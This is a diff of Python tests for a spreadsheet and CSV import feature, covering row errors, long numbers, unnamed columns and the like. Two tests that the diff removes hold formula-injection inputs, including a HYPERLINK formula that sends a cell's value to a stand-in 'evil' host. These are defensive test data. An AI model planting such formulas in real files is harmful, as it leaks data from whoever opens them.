@@ -207,6 +207,8 @@ def test_zero_width_only_row_and_names(officer):
     assert all(
         r["outcome"] != "create" or r["working_name"].isprintable() for r in run.report["rows"]
     )
+    assert run.report["blank_lines"] == [2, 3, 5]
+    assert [r["working_name"] for r in run.report["rows"]] == ["KimChol"]
 
 
 def test_admin_columns_with_a_list_value(officer):
@@ -318,14 +320,6 @@ def test_long_file_name_commit(officer):
     assert run.status == ImportStatus.COMMITTED
 
 
-def test_formula_value_reaches_export_escaped(officer):
-    run = _run(
-        officer,
-        csv_bytes([["working_name", "unit"], ['=HYPERLINK("http://evil/?"&A1,"x")', "@SUM(1)"]]),
-    )
-    print([(r["outcome"], r["values"]) for r in run.report["rows"]])
-
-
 def _xlsx(rows):
     import io
 
@@ -353,30 +347,23 @@ def test_xlsx_multipart_with_idempotency_key(officer):
     assert r.status_code == 201
 
 
-def test_xlsx_formulas_serials_and_resave(officer):
-    import datetime
-
+def test_xlsx_numbers_of_more_than_15_digits_are_row_errors(officer):
+    """A spreadsheet rounds a number past 15 digits: an ICRC or service number typed as one
+    is the row's error, not a wrong number."""
     content = _xlsx(
         [
-            ["icrc_number", "working_name", "birth_date", "unit"],
-            ["CTA-F1", "=1+1", 36000, '=HYPERLINK("http://x","y")'],
-            ["CTA-F2", "Kim", datetime.datetime(1999, 3, 12, 13, 0), 12.5],
-            [12345678901234567890, "Big", 1e20, None],
+            ["icrc_number", "working_name", "service_number"],
+            [12345678901234567890, "Big", None],
+            [123456789012345, "Fits", 1e20],
+            [123456789012345, "Fine", 42],
         ]
     )
     run = _run(officer, content, name="l.xlsx")
-    for r in run.report["rows"]:
-        print(r["line"], r["outcome"], r["message"], r["values"])
-    # The same list saved again by openpyxl: other bytes, same rows.
-    again = _xlsx(
-        [
-            ["icrc_number", "working_name", "birth_date", "unit"],
-            ["CTA-F1", "=1+1", 36000, '=HYPERLINK("http://x","y")'],
-            ["CTA-F2", "Kim", datetime.datetime(1999, 3, 12, 13, 0), 12.5],
-            [12345678901234567890, "Big", 1e20, None],
-        ]
-    )
-    print("same bytes after re-save:", again == content)
+    rows = run.report["rows"]
+    assert [r["outcome"] for r in rows] == ["error", "error", "create"]
+    assert "icrc_number: " in rows[0]["message"] and "15 digits" in rows[0]["message"]
+    assert "service_number: " in rows[1]["message"]
+    assert rows[2]["values"]["icrc_number"] == "123456789012345"
 
 
 def _xlsx_with_cell(text: str) -> bytes:
@@ -410,16 +397,18 @@ def test_xlsx_shared_strings_bomb(officer, megabytes):
 
 
 def test_unnamed_column_data_is_dropped_silently(officer):
-    content = b"working_name,,rank\nKim,SECRET-DATA,Private\n"
-    run = _run(officer, content)
-    print(run.report["rows"][0])
+    content = b"working_name,,rank\nKim,SECRET-DATA,Private\nPak,,Private\n"
+    run = _run(officer, content, columns={"working_name": "working_name", "rank": "rank"})
+    first, second = run.report["rows"]
+    assert first["outcome"] == "error" and "no header" in first["message"]
+    assert second["outcome"] == "create"
 
 
 def test_extra_cells_shift_free_text(officer):
     content = b"working_name,rank\nKim, Chol,Private\n"
     run = _run(officer, content)
-    print(run.report["rows"][0])
     assert run.report["rows"][0]["outcome"] == "error"
+    assert "3 values and the header 2 columns" in run.report["rows"][0]["message"]
 
 
 def test_same_name_in_two_name_columns(officer):
